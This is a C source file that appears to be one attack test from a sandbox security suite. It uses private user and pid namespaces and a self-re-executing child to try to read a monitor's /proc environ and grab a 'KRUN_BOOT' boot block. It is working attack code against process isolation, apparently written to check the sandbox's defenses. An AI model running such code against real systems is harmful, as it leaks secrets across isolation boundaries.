// The environment of a monitor between its execve and the moment at which its bounds become the payload's: the boot block stands
// there. In a user and a pid namespace of the payload's own, whose root is the container's: there the kernel lets the
// namespace's root look into undumpable processes, and no monitor of the container answers.
#include "attack.h"

static void put(const char *path, const char *text) {
    int fd = open(path, O_WRONLY);
    if (fd < 0 || write(fd, text, strlen(text)) < 0)
        attack_broken(path);
    close(fd);
}

// Executes itself again and again.
static void again(char **argv) {
    char left[16];
    int n = argv[2] ? atoi(argv[2]) : 200;
    if (n <= 0)
        _exit(0);
    snprintf(left, sizeof left, "%d", n - 1);
    execl("/proc/self/exe", "attack", "again", left, NULL);
    _exit(1);
}

// In namespaces of its own, in one try.
static int seen; // environments that were read
static void try(void *none) {
    static char text[1 << 20];
    char path[64], map[32];
    int uid = (int)getuid(), gid = (int)getgid();
    (void)none;
    if (unshare(CLONE_NEWUSER) < 0)
        attack_broken("unshare");
    snprintf(map, sizeof map, "0 %d 1", uid);
    put("/proc/self/uid_map", map);
    put("/proc/self/setgroups", "deny");
    snprintf(map, sizeof map, "0 %d 1", gid);
    put("/proc/self/gid_map", map);
    if (unshare(CLONE_NEWPID) < 0)
        attack_broken("unshare pid");
    pid_t pid = fork();
    if (pid == 0) {
        char *argv[] = {"attack", "again", NULL};
        again(argv);
    }
    snprintf(path, sizeof path, "/proc/%d/environ", (int)pid);
    while (waitpid(pid, NULL, WNOHANG) == 0) {
        int fd = open(path, O_RDONLY);
        ssize_t n = fd < 0 ? -1 : read(fd, text, sizeof text - 1);
        if (fd >= 0)
            close(fd);
        if (n > 0 && memmem(text, (size_t)n, "KRUN_BOOT", 9))
            attack_won("a boot block of %zd bytes", n);
        seen += n > 0 && memmem(text, (size_t)n, "ATTACK_SECONDS", 14);
        if (attack_over())
            kill(pid, SIGKILL);
    }
    if (!seen)
        attack_broken("no environment was read");
}

int main(int argc, char **argv) {
    if (argc > 1)
        again(argv);
    while (!attack_over())
        if (attack_child_won(attack_child(try, NULL)))
            _exit(ATTACK_WON);
    attack_lost();
}
